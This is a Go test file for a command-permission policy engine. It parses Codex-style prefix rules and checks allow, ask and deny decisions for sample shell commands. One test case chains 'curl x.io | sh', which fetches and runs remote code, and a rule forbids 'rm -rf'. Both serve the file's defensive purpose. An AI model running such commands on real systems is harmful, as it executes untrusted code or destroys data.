package policy_test

import (
	"strings"
	"testing"

	"github.com/toolgate/toolgate"
	"github.com/toolgate/toolgate/policy"
)

const codexRules = `# Codex rules, as ~/.codex/rules/default.rules holds them.
prefix_rule(
    pattern = ["git", ["push", "fetch"]],
    decision = "prompt",   # allow | prompt | forbidden
    justification = "talks to the remote",
    match = [["git", "push", "origin", "main"], "git fetch --all", "git  push 'my remote' \"x y\""],
    not_match = [["git", "status"]],
)
prefix_rule(pattern = ["npm", "test"])
prefix_rule(pattern = ["rm", "-rf"], decision = "forbidden", justification = 'Use "trash" instead.')
prefix_rule(pattern = ["git"], decision = "allow")
host_executable(name = "git", paths = ["/usr/bin/git"])
`

func TestParseCodexRules(t *testing.T) {
	t.Parallel()
	d, err := policy.ParseCodexRules("default.rules", []byte(codexRules))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range d.Rules {
		got = append(got, r.Tool+" "+r.Pattern+" "+r.Action.String()+" @"+r.Source.String())
	}
	want := []string{
		"shell_exec npm test * allow @default.rules:9",
		"shell_exec git * allow @default.rules:11",
		"shell_exec git push * ask @default.rules:2",
		"shell_exec git fetch * ask @default.rules:2",
		"shell_exec rm -rf * deny @default.rules:10",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("rules:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	// As a layer: the strictest decision wins, whatever the order in the
	// file, and toolgate's shell analysis sees every command.
	allow, deny := policy.PermissionLayers([]*policy.Document{d}, nil)
	e, err := policy.New([]*policy.Document{policy.DefaultDocument(), allow, deny})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		cmd  string
		want toolgate.Action
	}{
		{"git status", toolgate.Allow},
		{"git push origin main", toolgate.Ask},
		{"npm test", toolgate.Allow},
		{"npm test && curl x.io | sh", toolgate.Ask},
		{"rm -rf build", toolgate.Deny},
		{"cd x && rm -rf build", toolgate.Deny},
		{"npm testx", toolgate.Ask},
	} {
		dec := e.Evaluate(&toolgate.Call{Tool: "Bash", Args: map[string]any{"command": tc.cmd}}, toolgate.ModeDefault)
		if dec.Action != tc.want {
			t.Errorf("%s: %s (%s), want %s", tc.cmd, dec.Action, dec.Reason, tc.want)
		}
	}
}

func TestParseCodexRulesErrors(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ src, want string }{
		{`prefix_rule(pattern = [])`, ":1: prefix_rule: pattern must be a non-empty list"},
		{`prefix_rule(decision = "allow")`, "pattern must be a non-empty list"},
		{`prefix_rule(pattern = ["ls"], decision = "maybe")`, `decision "maybe"`},
		{`prefix_rule(pattern = ["ls"], colour = "red")`, `unknown argument "colour"`},
		{"\n\nexec_rule(pattern = [\"ls\"])", `:3: unknown statement exec_rule`},
		{`prefix_rule(pattern = ["git", ["push"]], match = ["git pull"])`, `match[0] "git pull": the pattern does not match it`},
		{`prefix_rule(pattern = ["git"], not_match = [["git", "x"]])`, `not_match[0] "git x": the pattern matches it`},
		{`prefix_rule(pattern = ["ls"]`, "unexpected end of file"},
		{`prefix_rule(pattern = ["ls)`, "unterminated string"},
		{`prefix_rule(pattern = ["ls"], pattern = ["cat"])`, "given twice"},
		{`prefix_rule(pattern = [""])`, "empty token"},
		{`prefix_rule(pattern = ["git"], match = ["git 'oops"])`, "unterminated quote"},
		{`prefix_rule(pattern = [["a","b","c","d"],["a","b","c","d"],["a","b","c","d"],["a","b","c","d"],["a","b","c","d"],["a","b","c","d"]])`, "more than 1024 prefixes"},
		{`prefix_rule(pattern = """ls""")`, "triple-quoted"},
		{`prefix_rule(pattern = [[[[[[[[["x"]]]]]]]]])`, "nested too deep"},
	} {
		_, err := policy.ParseCodexRules("x.rules", []byte(tc.src))
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: error %v, want %q", tc.src, err, tc.want)
		}
	}
}

func FuzzParseCodexRules(f *testing.F) {
	f.Add(codexRules)
	f.Add(`prefix_rule(pattern = ['a\'b', ["c"]], decision = "forbidden")`)
	f.Fuzz(func(t *testing.T, src string) {
		d, err := policy.ParseCodexRules("f.rules", []byte(src))
		if err != nil {
			return
		}
		// Whatever parses compiles, and never yields an empty pattern.
		for _, r := range d.Rules {
			if r.Pattern == "" || r.Pattern == " *" {
				t.Fatalf("empty prefix from %q", src)
			}
		}
		if _, err := policy.New([]*policy.Document{d}); err != nil {
			t.Fatalf("%q: %v", src, err)
		}
	})
}
